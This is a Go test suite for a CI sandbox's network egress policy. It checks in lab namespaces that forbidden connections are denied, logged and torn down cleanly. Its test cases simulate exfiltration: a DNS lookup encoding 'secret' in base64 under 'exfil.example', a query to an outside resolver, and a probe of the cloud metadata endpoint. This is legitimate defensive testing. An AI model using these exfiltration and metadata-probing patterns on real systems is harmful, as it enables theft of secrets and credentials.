package netpolicy_test

import (
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/cleanroom-ci/cleanroom/internal/lab"
	"github.com/cleanroom-ci/cleanroom/internal/testutil"
	"github.com/cleanroom-ci/cleanroom/netpolicy"
)

// recorder collects events delivered to OnEvent.
type recorder struct {
	mu     sync.Mutex
	events []netpolicy.Event
}

func (r *recorder) add(e netpolicy.Event) { r.mu.Lock(); r.events = append(r.events, e); r.mu.Unlock() }
func (r *recorder) all() []netpolicy.Event {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]netpolicy.Event(nil), r.events...)
}

// waitFor polls until an event matches (NFLOG delivery is asynchronous).
func (r *recorder) waitFor(t *testing.T, what string, match func(netpolicy.Event) bool) netpolicy.Event {
	t.Helper()
	deadline := time.Now().Add(3 * time.Second)
	for time.Now().Before(deadline) {
		for _, e := range r.all() {
			if match(e) {
				return e
			}
		}
		time.Sleep(20 * time.Millisecond)
	}
	t.Fatalf("no event for %s; got:\n%s", what, dump(r.all()))
	return netpolicy.Event{}
}

func dump(evs []netpolicy.Event) string {
	var b strings.Builder
	for _, e := range evs {
		fmt.Fprintf(&b, "  %s %s %s→%s %s %s %s %s\n", e.Job, e.Proto, e.Src, e.Dst, e.Domain, e.Answer, e.Verdict, e.Rule)
	}
	return b.String()
}

// newLab builds a lab, checks the root namespace is untouched at the end and
// that no namespace of ours is left.
func newLab(t testing.TB) *lab.Lab {
	t.Helper()
	testutil.RequiresRoot(t)
	ctx := context.Background()
	before, err := lab.SnapshotRoot(ctx)
	if err != nil {
		t.Fatal(err)
	}
	l, err := lab.New(ctx, "np")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := l.Close(); err != nil {
			t.Errorf("closing lab: %v", err)
		}
		after, err := lab.SnapshotRoot(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if d := before.Diff(after); d != "" {
			t.Errorf("root namespace changed:\n%s", d)
		}
		if left := lab.OurNamespaces(lab.Prefix + l.ID); len(left) > 0 {
			for _, n := range left {
				if strings.HasPrefix(n, lab.Prefix+l.ID) {
					t.Errorf("lab namespace left behind: %s", n)
				}
			}
		}
	})
	return l
}

func probePath(t *testing.T) string {
	p, err := filepath.Abs("testdata/probe.js")
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// inSandbox runs argv in the sandbox's namespace.
func inSandbox(t *testing.T, nw *netpolicy.Network, argv ...string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	out, _ := exec.CommandContext(ctx, "ip", append([]string{"netns", "exec", nw.Name}, argv...)...).CombinedOutput()
	return strings.TrimSpace(string(out))
}

func labConfig(t testing.TB, l *lab.Lab, id string, rec *recorder) netpolicy.Config {
	return netpolicy.Config{
		ID: id, Runner: "r-test", HostNS: l.HostNSPath(), Mode: netpolicy.ModeForward,
		Policy:   netpolicy.Policy{Registries: []string{fmt.Sprintf("http://%s:%d", lab.RegistryName, lab.RegistryPort)}},
		Resolver: netpolicy.StaticResolver{Hosts: map[string][]net.IP{lab.RegistryName: {lab.RegistryIP}}},
		StateDir: t.TempDir(), AuditLog: filepath.Join(t.TempDir(), "egress.jsonl"), OnEvent: rec.add,
	}
}

// closeAndCheck closes nw and checks that nothing of it remains.
func closeAndCheck(t *testing.T, l *lab.Lab, nw *netpolicy.Network) {
	t.Helper()
	if err := nw.Close(context.Background()); err != nil {
		t.Error(err)
	}
	assertGone(t, l, nw)
}

// assertGone checks nothing of nw remains in the lab host namespace, and
// that no audit failure was reported (Close stops the readers on purpose).
func assertGone(t *testing.T, l *lab.Lab, nw *netpolicy.Network) {
	t.Helper()
	ctx := context.Background()
	select {
	case err := <-nw.AuditFailed():
		t.Errorf("audit failure reported for %s: %v", nw.ID, err)
	default:
	}
	if _, err := os.Stat(nw.NetNSPath()); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("namespace %s still exists (%v)", nw.NetNSPath(), err)
	}
	// The kernel destroys the veth with the namespace, after Close; the
	// address goes back to the pool once it has.
	select {
	case <-nw.Released():
		if err := nw.ReleaseErr(); err != nil {
			t.Errorf("releasing %s: %v", nw.ID, err)
		}
	case <-time.After(10 * time.Second):
		t.Errorf("network %s not released 10 s after Close", nw.ID)
	}
	out, _ := l.Exec(ctx, l.HostNS, "ip", "-o", "link")
	if strings.Contains(string(out), nw.HostIf) {
		t.Errorf("host link %s still exists", nw.HostIf)
	}
	for _, save := range []string{"iptables-save", "ip6tables-save"} {
		out, _ := l.Exec(ctx, l.HostNS, save)
		if strings.Contains(string(out), "cleanroom job=") || strings.Contains(string(out), ":CR-") {
			t.Errorf("%s still has our rules:\n%s", save, out)
		}
	}
}

func TestEgressIsDeniedLoggedAndNeverArrives(t *testing.T) {
	for _, backend := range []netpolicy.Backend{netpolicy.BackendNFT, netpolicy.BackendLegacy} {
		t.Run(string(backend), func(t *testing.T) {
			l := newLab(t)
			if err := l.ListenTCP(l.RegistryNS, "10.231.254.2:4873"); err != nil {
				t.Fatal(err)
			}
			// Lab self-check: the recorder sees what reaches the forbidden
			// host, so "received nothing" below can fail.
			if out, err := l.Exec(context.Background(), l.HostNS, "node", probePath(t), "tcp", "10.231.253.2", "80"); err != nil || !strings.HasPrefix(string(out), "ok") {
				t.Fatalf("lab self-check: %s %v", out, err)
			}
			time.Sleep(100 * time.Millisecond)
			if len(l.ForbiddenPackets()) == 0 {
				t.Fatal("recorder saw nothing from the lab self-check")
			}
			l.ResetForbiddenPackets()

			rec := &recorder{}
			id := "j-deny-" + string(backend)
			cfg := labConfig(t, l, id, rec)
			cfg.Backend = backend
			nw, err := netpolicy.Setup(context.Background(), cfg)
			if err != nil {
				t.Fatal(err)
			}
			defer closeAndCheck(t, l, nw)
			probe := probePath(t)
			src := nw.SandboxIP.String()
			tests := []struct {
				name    string
				argv    []string
				wantOut string
				match   func(netpolicy.Event) bool
			}{
				{"tcp to forbidden host", []string{"node", probe, "tcp", "10.231.253.2", "443"}, "err",
					func(e netpolicy.Event) bool {
						return e.Proto == "tcp" && e.Dst == "10.231.253.2:443" && e.Verdict == "deny" && e.Rule == "default-deny" && strings.HasPrefix(e.Src, src+":")
					}},
				{"udp to forbidden host", []string{"node", probe, "udp", "10.231.253.2", "123", "leak"}, "",
					func(e netpolicy.Event) bool {
						return e.Proto == "udp" && e.Dst == "10.231.253.2:123" && e.Verdict == "deny"
					}},
				{"unprivileged icmp", []string{"setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "ping", "-c1", "-W1", "10.231.253.2"}, "",
					func(e netpolicy.Event) bool {
						return e.Proto == "icmp" && e.Dst == "10.231.253.2" && e.Verdict == "deny"
					}},
				{"other port on registry host", []string{"node", probe, "tcp", "10.231.254.2", "22"}, "err",
					func(e netpolicy.Event) bool { return e.Dst == "10.231.254.2:22" && e.Verdict == "deny" }},
				{"ipv6 to forbidden host", []string{"node", probe, "tcp", "fd00:bad::2", "80"}, "err",
					func(e netpolicy.Event) bool {
						return e.Dst == "[fd00:bad::2]:80" && e.Verdict == "deny" && e.Src != "" && strings.HasPrefix(e.Src, "["+nw.SandboxIP6.String())
					}},
				{"dns lookup of arbitrary name", []string{"node", probe, "dns", "c2VjcmV0.exfil.example", nw.HostIP.String()}, "err",
					func(e netpolicy.Event) bool {
						// The resolver library may lower-case the name; the responder keeps what it got.
						return e.Proto == "dns" && strings.EqualFold(e.Domain, "c2VjcmV0.exfil.example") && e.Verdict == "deny" && e.Rule == "dns-refused"
					}},
				{"dns straight to public resolver", []string{"node", probe, "dns", "exfil.example", "198.51.100.53"}, "err",
					func(e netpolicy.Event) bool {
						return e.Proto == "udp" && e.Dst == "198.51.100.53:53" && e.Verdict == "deny"
					}},
				{"cloud metadata", []string{"node", probe, "tcp", "169.254.169.254", "80"}, "err",
					func(e netpolicy.Event) bool { return e.Dst == "169.254.169.254:80" && e.Rule == "metadata-deny" }},
				{"registry name resolves", []string{"node", probe, "dns", lab.RegistryName, nw.HostIP.String()}, "ok 10.231.254.2",
					func(e netpolicy.Event) bool {
						return e.Proto == "dns" && e.Domain == lab.RegistryName && e.Answer == "10.231.254.2" && e.Verdict == "allow"
					}},
				{"registry port is allowed", []string{"node", probe, "tcp", "10.231.254.2", "4873"}, "ok",
					func(e netpolicy.Event) bool {
						return e.Proto == "tcp" && e.Dst == "10.231.254.2:4873" && e.Verdict == "allow" && e.Rule == "allow-registry" && e.Domain == lab.RegistryName
					}},
			}
			for _, tc := range tests {
				t.Run(tc.name, func(t *testing.T) {
					start := time.Now()
					out := inSandbox(t, nw, tc.argv...)
					if !strings.HasPrefix(out, tc.wantOut) {
						t.Errorf("output %q, want prefix %q", out, tc.wantOut)
					}
					if d := time.Since(start); d > 3*time.Second {
						t.Errorf("attempt took %v: denied connects must fail fast", d)
					}
					e := rec.waitFor(t, tc.name, tc.match)
					if e.Job != id || e.Runner != "r-test" || e.Sandbox != nw.Name {
						t.Errorf("event attributed to %q/%q/%q", e.Job, e.Runner, e.Sandbox)
					}
				})
			}
			time.Sleep(200 * time.Millisecond)
			if p := l.ForbiddenPackets(); len(p) > 0 {
				t.Errorf("forbidden host received %d packets: %v", len(p), p)
			}
			for _, e := range rec.all() {
				if e.Job != id {
					t.Errorf("event with wrong job: %+v", e)
				}
			}
			// The audit log has the same events, one JSON object per line.
			if err := nw.Close(context.Background()); err != nil {
				t.Fatal(err)
			}
			b, err := os.ReadFile(cfg.AuditLog)
			if err != nil {
				t.Fatal(err)
			}
			lines := strings.Split(strings.TrimSpace(string(b)), "\n")
			if len(lines) != len(rec.all()) || !strings.Contains(string(b), `"process":null`) || !strings.Contains(string(b), `"job":"`+id+`"`) {
				t.Errorf("audit log has %d lines for %d events:\n%s", len(lines), len(rec.all()), b)
			}
		})
	}
}

func TestKillModeFiresOnFirstViolation(t *testing.T) {
	l := newLab(t)
	rec := &recorder{}
	cfg := labConfig(t, l, "j-kill", rec)
	cfg.Policy.Kill = true
	nw, err := netpolicy.Setup(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	// Kill mode drops, so the probe hangs until it is killed, as the
	// agent kills a sandbox's step on the violation; only then does the
	// namespace (and with it the veth) go away.
	ctx, cancel := context.WithCancel(context.Background())
	probe := exec.CommandContext(ctx, "ip", "netns", "exec", nw.Name, "node", probePath(t), "tcp", "10.231.253.2", "80")
	if err := probe.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() {
		cancel()
		_ = probe.Wait()
		if err := nw.Close(context.Background()); err != nil {
			t.Error(err)
		}
		assertGone(t, l, nw)
	}()
	select {
	case e := <-nw.Violations():
		if e.Dst != "10.231.253.2:80" || e.Job != "j-kill" || e.Verdict != "deny" {
			t.Fatalf("violation %+v", e)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("no violation signalled")
	}
}

// A reader that dies while the job runs cannot go unnoticed: AuditFailed
// fires, an event says why, kill mode fires its violation, and Close still
// cleans up everything.
func TestDeadNflogReaderIsReported(t *testing.T) {
	l := newLab(t)
	rec := &recorder{}
	cfg := labConfig(t, l, "j-deadreader", rec)
	cfg.Policy.Kill = true
	nw, err := netpolicy.Setup(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer nw.Close(context.Background()) // when the test fails early; Close is idempotent
	select {
	case err := <-nw.AuditFailed():
		t.Fatalf("audit failure before the reader was broken: %v", err)
	default:
	}
	if err := netpolicy.BreakNflogReader(nw); err != nil {
		t.Fatal(err)
	}
	select {
	case err := <-nw.AuditFailed():
		if !errors.Is(err, netpolicy.ErrAuditFailed) || !strings.Contains(err.Error(), "nflog") {
			t.Errorf("audit failure %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("AuditFailed did not fire after the nflog reader died")
	}
	e := rec.waitFor(t, "audit failure", func(e netpolicy.Event) bool { return e.Rule == netpolicy.RuleAuditFailure })
	if e.Proto != netpolicy.ProtoAudit || e.Verdict != "deny" || e.Domain != "nflog" || !strings.Contains(e.Answer, "receiving nflog messages") ||
		e.Job != "j-deadreader" || e.Runner != "r-test" || e.Sandbox != nw.Name {
		t.Errorf("audit-failure event %+v", e)
	}
	select {
	case v := <-nw.Violations():
		if v.Rule != netpolicy.RuleAuditFailure {
			t.Errorf("violation %+v", v)
		}
	case <-time.After(time.Second):
		t.Error("kill mode: no violation for the dead reader")
	}
	closeAndCheck(t, l, nw) // also: AuditFailed fired once only
	b, err := os.ReadFile(cfg.AuditLog)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(b), `"rule":"audit-failure"`) {
		t.Errorf("audit log has no audit-failure line:\n%s", b)
	}
}

func TestConcurrentSandboxesAreSeparate(t *testing.T) {
	l := newLab(t)
	state := t.TempDir()
	pool, err := netpolicy.NewPool("", state)
	if err != nil {
		t.Fatal(err)
	}
	recs := map[string]*recorder{"j-a": {}, "j-b": {}}
	nws := map[string]*netpolicy.Network{}
	var mu sync.Mutex
	var wg sync.WaitGroup
	for id, rec := range recs {
		wg.Add(1)
		go func() {
			defer wg.Done()
			cfg := labConfig(t, l, id, rec)
			cfg.StateDir, cfg.Pool = state, pool
			nw, err := netpolicy.Setup(context.Background(), cfg)
			if err != nil {
				t.Error(err)
				return
			}
			mu.Lock()
			nws[id] = nw
			mu.Unlock()
		}()
	}
	wg.Wait()
	defer func() {
		for _, nw := range nws {
			if err := nw.Close(context.Background()); err != nil {
				t.Error(err)
			}
		}
		for _, nw := range nws {
			assertGone(t, l, nw)
		}
		if leases, err := pool.Leases(); err != nil || len(leases) != 0 {
			t.Errorf("pool after release: %v %v", leases, err)
		}
	}()
	if t.Failed() {
		return
	}
	if nws["j-a"].SandboxIP.Equal(nws["j-b"].SandboxIP) {
		t.Fatal("both sandboxes got", nws["j-a"].SandboxIP)
	}
	var run sync.WaitGroup
	for id, port := range map[string]string{"j-a": "8080", "j-b": "22"} {
		run.Add(1)
		go func() { defer run.Done(); inSandbox(t, nws[id], "node", probePath(t), "tcp", "10.231.253.2", port) }()
	}
	run.Wait()
	recs["j-a"].waitFor(t, "a", func(e netpolicy.Event) bool { return e.Dst == "10.231.253.2:8080" })
	recs["j-b"].waitFor(t, "b", func(e netpolicy.Event) bool { return e.Dst == "10.231.253.2:22" })
	time.Sleep(100 * time.Millisecond)
	for id, rec := range recs {
		for _, e := range rec.all() {
			if e.Job != id || !strings.HasPrefix(e.Src, nws[id].SandboxIP.String()+":") {
				t.Errorf("sandbox %s got foreign event %+v", id, e)
			}
		}
	}
}

// The host end of the veth speaks no IPv6 at all (no address, not even
// link-local), while the sandbox end keeps the route its IPv6 attempts need
// to reach the deny-and-log rules.
func TestHostEndHasNoIPv6(t *testing.T) {
	l := newLab(t)
	nw, err := netpolicy.Setup(context.Background(), labConfig(t, l, "j-nov6", &recorder{}))
	if err != nil {
		t.Fatal(err)
	}
	defer closeAndCheck(t, l, nw)
	ctx := context.Background()
	out, err := l.Exec(ctx, l.HostNS, "cat", "/proc/sys/net/ipv6/conf/"+nw.HostIf+"/disable_ipv6")
	if err != nil || strings.TrimSpace(string(out)) != "1" {
		t.Fatalf("disable_ipv6 on %s: %q %v", nw.HostIf, out, err)
	}
	if out, _ := l.Exec(ctx, l.HostNS, "ip", "-6", "-o", "addr", "show", "dev", nw.HostIf); strings.TrimSpace(string(out)) != "" {
		t.Fatalf("host end has IPv6 addresses: %s", out)
	}
	if out := inSandbox(t, nw, "ip", "-6", "route", "show", "default"); !strings.Contains(out, "via "+nw.HostIP6.String()) {
		t.Fatalf("sandbox IPv6 default route: %q", out)
	}
}

// A network's addresses stay leased until the kernel has destroyed its veth
// (Close does not wait for that); setting up the same id again at once must
// still work, and nothing may be left afterwards.
func TestCloseReleasesAfterTheVethIsGone(t *testing.T) {
	l := newLab(t)
	state := t.TempDir()
	pool, err := netpolicy.NewPool("", state)
	if err != nil {
		t.Fatal(err)
	}
	cfg := labConfig(t, l, "j-again", &recorder{})
	cfg.StateDir, cfg.Pool = state, pool
	first, err := netpolicy.Setup(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	if err := first.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	second, err := netpolicy.Setup(context.Background(), cfg)
	if err != nil {
		t.Fatal("same id right after Close:", err)
	}
	if err := second.Close(context.Background()); err != nil {
		t.Fatal(err)
	}
	// Both host ends have the same name: wait for the second's release
	// before looking for either by name.
	assertGone(t, l, second)
	assertGone(t, l, first)
	if leases, err := pool.Leases(); err != nil || len(leases) != 0 {
		t.Errorf("pool after release: %v %v", leases, err)
	}
}

// Denied attempts made in the instant before teardown are still reported,
// even when the consumer is slow (here 2 ms an event, so the reader is
// hundreds of messages behind when Close starts): Close drains the NFLOG
// queue up to a marker of its own instead of sleeping and hoping.
func TestCloseLosesNoQueuedEvents(t *testing.T) {
	l := newLab(t)
	const n = 300
	for round := 0; round < 2; round++ {
		rec := &recorder{}
		cfg := labConfig(t, l, fmt.Sprintf("j-burst-%d", round), rec)
		cfg.OnEvent = func(e netpolicy.Event) { time.Sleep(2 * time.Millisecond); rec.add(e) }
		nw, err := netpolicy.Setup(context.Background(), cfg)
		if err != nil {
			t.Fatal(err)
		}
		out := inSandbox(t, nw, "node", probePath(t), "burst", "10.231.253.2", strconv.Itoa(n))
		if err := nw.Close(context.Background()); err != nil {
			t.Fatal(err)
		}
		assertGone(t, l, nw)
		got := map[string]bool{}
		for _, e := range rec.all() {
			if e.Verdict == "deny" && e.Proto == "udp" && strings.HasPrefix(e.Dst, "10.231.253.2:2") {
				got[e.Dst] = true
			}
		}
		if out != fmt.Sprintf("ok sent %d", n) || len(got) != n {
			t.Fatalf("round %d: probe %q, %d of %d denied datagrams reported", round, out, len(got), n)
		}
	}
	if p := l.ForbiddenPackets(); len(p) != 0 {
		t.Fatalf("forbidden host received %d packets", len(p))
	}
}

func TestDirectModeReachesOnlyTheHostEnd(t *testing.T) {
	l := newLab(t)
	if err := l.ListenTCP(l.HostNS, "0.0.0.0:18080"); err != nil {
		t.Fatal(err)
	}
	rec := &recorder{}
	cfg := labConfig(t, l, "j-direct", rec)
	cfg.Mode = netpolicy.ModeDirect
	// The per-job proxy seam: the only destination is the host end.
	cfg.Destinations = []netpolicy.Destination{{Host: lab.RegistryName, IPs: []net.IP{netpolicy.HostEnd}, Port: 18080}}
	nw, err := netpolicy.Setup(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer closeAndCheck(t, l, nw)
	if out := inSandbox(t, nw, "node", probePath(t), "tcp", nw.HostIP.String(), "18080"); !strings.HasPrefix(out, "ok") {
		t.Fatalf("host-end proxy port: %s", out)
	}
	if out := inSandbox(t, nw, "node", probePath(t), "dns", lab.RegistryName, nw.HostIP.String()); out != "ok "+nw.HostIP.String() {
		t.Fatalf("registry name should resolve to the host end: %s", out)
	}
	// The registry itself is not reachable in direct mode.
	if out := inSandbox(t, nw, "node", probePath(t), "tcp", "10.231.254.2", "4873"); !strings.HasPrefix(out, "err") {
		t.Fatalf("registry reachable in direct mode: %s", out)
	}
	rec.waitFor(t, "allow host end", func(e netpolicy.Event) bool { return e.Verdict == "allow" && e.Dst == nw.HostIP.String()+":18080" })
}

// A gateway policy in forward mode: the sandbox reaches a listener made
// with ListenHostEnd, and the registry not at all.
func TestGatewayPolicyReachesOnlyTheHostEndListener(t *testing.T) {
	l := newLab(t)
	rec := &recorder{}
	cfg := labConfig(t, l, "j-gw", rec)
	cfg.Policy.Gateway = 18081
	nw, err := netpolicy.Setup(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	defer closeAndCheck(t, l, nw)
	ln, err := nw.ListenHostEnd(18081)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	if out := inSandbox(t, nw, "node", probePath(t), "tcp", nw.HostIP.String(), "18081"); !strings.HasPrefix(out, "ok") {
		t.Fatalf("gateway on the host end: %s", out)
	}
	if out := inSandbox(t, nw, "node", probePath(t), "tcp", lab.RegistryIP.String(), strconv.Itoa(lab.RegistryPort)); !strings.HasPrefix(out, "err") {
		t.Fatalf("registry reachable past the gateway: %s", out)
	}
	rec.waitFor(t, "registry denied", func(e netpolicy.Event) bool {
		return e.Verdict == "deny" && e.Dst == net.JoinHostPort(lab.RegistryIP.String(), strconv.Itoa(lab.RegistryPort))
	})
}

func TestForwardModeFailsClosedWithoutIPForward(t *testing.T) {
	l := newLab(t)
	rec := &recorder{}
	cfg := labConfig(t, l, "j-nofwd", rec)
	cfg.HostNS = l.RegistryNSPath() // ip_forward=0 there
	_, err := netpolicy.Setup(context.Background(), cfg)
	if !errors.Is(err, netpolicy.ErrForwardingDisabled) || !errors.Is(err, netpolicy.ErrRules) {
		t.Fatalf("err = %v, want ErrForwardingDisabled", err)
	}
	if _, err := os.Stat("/run/netns/cr-j-nofwd"); !errors.Is(err, os.ErrNotExist) {
		t.Fatal("namespace left after failed setup")
	}
}

func TestGCRemovesCrashedSetup(t *testing.T) {
	l := newLab(t)
	rec := &recorder{}
	cfg := labConfig(t, l, "j-crash", rec)
	keepCfg := labConfig(t, l, "j-alive", rec)
	keepCfg.StateDir = cfg.StateDir
	crashed, err := netpolicy.Setup(context.Background(), cfg)
	if err != nil {
		t.Fatal(err)
	}
	alive, err := netpolicy.Setup(context.Background(), keepCfg)
	if err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := alive.Close(context.Background()); err != nil {
			t.Error(err)
		}
		assertGone(t, l, alive)
	}()
	// "Crash": drop the handle without Close. Its goroutines stay in this
	// test process, as they would not in a real crash; only kernel and file
	// state is what GC must find.
	rep, err := netpolicy.GC(context.Background(), netpolicy.GCOptions{
		HostNS: l.HostNSPath(), StateDir: cfg.StateDir, Keep: func(j string) bool { return j == "j-alive" },
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("gc report: %+v", rep)
	if len(rep.Namespaces) != 1 || len(rep.Leases) != 1 || len(rep.Chains) == 0 {
		t.Errorf("report %+v", rep)
	}
	assertGoneExcept(t, l, crashed, alive)
	// The kept sandbox still works.
	if _, err := os.Stat(alive.NetNSPath()); err != nil {
		t.Fatal("GC removed a kept namespace")
	}
	crashed.Close(context.Background()) // stop its goroutines; idempotent on a gone network
}

func assertGoneExcept(t *testing.T, l *lab.Lab, gone, kept *netpolicy.Network) {
	t.Helper()
	if _, err := os.Stat(gone.NetNSPath()); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("namespace %s survived GC", gone.NetNSPath())
	}
	out, _ := l.Exec(context.Background(), l.HostNS, "iptables-save")
	if strings.Contains(string(out), "job="+gone.ID) || !strings.Contains(string(out), "job="+kept.ID) {
		t.Errorf("iptables after GC:\n%s", out)
	}
	out, _ = l.Exec(context.Background(), l.HostNS, "ip", "-o", "link")
	if strings.Contains(string(out), gone.HostIf) || !strings.Contains(string(out), kept.HostIf) {
		t.Errorf("links after GC:\n%s", out)
	}
}
